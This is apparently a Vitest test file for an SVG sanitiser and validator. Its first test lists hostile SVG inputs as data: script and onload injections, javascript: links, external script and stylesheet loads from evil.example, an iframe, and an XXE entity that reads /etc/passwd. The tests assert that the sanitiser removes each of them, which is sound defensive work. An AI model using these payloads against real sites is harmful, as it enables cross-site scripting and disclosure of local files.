import { describe, expect, it } from "vitest";
import { sanitiseSvg, sizeOfSvg } from "./sanitise";
import { looksLikeSvg, problemWithDrawing } from "./svg";

describe("a drawing", () => {
  // Vectors of the OWASP cheat sheet on cross-site scripting, in the forms that concern SVG (from memory).
  it.each([
    ["<svg onload=alert(1)><path d='M0 0h9'/></svg>"],
    ["<svg><script>alert(1)</script><path d='M0 0h9'/></svg>"],
    ["<svg><script xlink:href='https://evil.example/x.js'/><path d='M0 0h9'/></svg>"],
    ["<svg><a href='javascript:alert(1)'><path d='M0 0h9'/></a></svg>"],
    ["<svg><foreignObject><iframe src='https://evil.example'/></foreignObject><path d='M0 0h9'/></svg>"],
    ["<svg><image href='https://evil.example/track.png'/><path d='M0 0h9'/></svg>"],
    ["<svg><use href='https://evil.example/x.svg#a'/><path d='M0 0h9'/></svg>"],
    ["<svg><use href='data:image/svg+xml;base64,AAAA'/><path d='M0 0h9'/></svg>"],
    ["<svg><path d='M0 0h9' fill='url(https://evil.example/#a)'/></svg>"],
    ["<svg><style>@import url(https://evil.example/x.css)</style><path d='M0 0h9'/></svg>"],
    ["<svg><path d='M0 0h9' style='background:url(javascript:alert(1))'/></svg>"],
    ["<svg><animate attributeName='href' values='javascript:alert(1)'/><path d='M0 0h9'/></svg>"],
    ["<svg><set attributeName='onmouseover' to='alert(1)'/><path d='M0 0h9'/></svg>"],
    ["<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg><text>&x;</text><path d='M0 0h9'/></svg>"],
  ])("loses what is not a shape: %s", (source) => {
    const clean = sanitiseSvg(source)!;
    expect(clean).toContain('d="M0 0h9"');
    expect(clean).not.toMatch(/script|javascript|evil|onload|onmouse|data:|import|ENTITY|passwd|iframe|animate|<set/i);
  });

  it("keeps what shapes need: gradients inside it, letter case, size", () => {
    const source =
      '<svg viewBox="0 0 300 100"><defs><linearGradient id="a" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="300" height="100" fill="url(#a)"/></svg>';
    const clean = sanitiseSvg(source)!;
    expect(clean).toContain('<linearGradient id="a" gradientUnits="userSpaceOnUse">');
    expect(clean).toContain('fill="url(#a)"');
    expect(clean).toContain("viewBox");
    expect(sizeOfSvg(clean)).toEqual([300, 100]);
  });
});

describe("what begins like a drawing", () => {
  it.each([
    ["<svg><path/></svg>", true],
    ["\ufeff  <svg\n>", true],
    ["<?xml version='1.0'?><!-- made by hand --><svg>", true],
    ["<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'x.dtd'><svg>", true],
    ["<!DOCTYPE svg [<!ENTITY a '>'> <!ENTITY b ''>]>\n<svg>", true],
    ["<!-- <svg> -->", false],
    ["<svgx>", false],
    ["<html><svg>", false],
    ["<?xml", false],
    ["", false],
  ])("%j: %s", (text, is) => expect(looksLikeSvg(Buffer.from(text))).toBe(is));
});

describe("a drawing is too much", () => {
  const shape = "<path d='M0 0h9'/>";
  it.each([
    [`<svg>${shape}</svg>`, false],
    [`<svg><g id="a">${shape}</g><use href="#a"/><use xlink:href="#a"/></svg>`, false],
    [
      `<svg><use href="#nowhere"/><rect fill="url(#g)"/><linearGradient id="g" href="#h"/><linearGradient id="h"/></svg>`,
      false,
    ],
    [`<svg><linearGradient id="g" href="#g"/></svg>`, true],
    [`<svg><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>`, true],
    [`<svg>${"<g>".repeat(61)}${shape}${"</g>".repeat(61)}</svg>`, true],
    [`<svg>${shape.repeat(20_001)}</svg>`, true],
  ])("%.80s: %s", (svg, is) => expect(problemWithDrawing(svg) !== undefined).toBe(is));
});
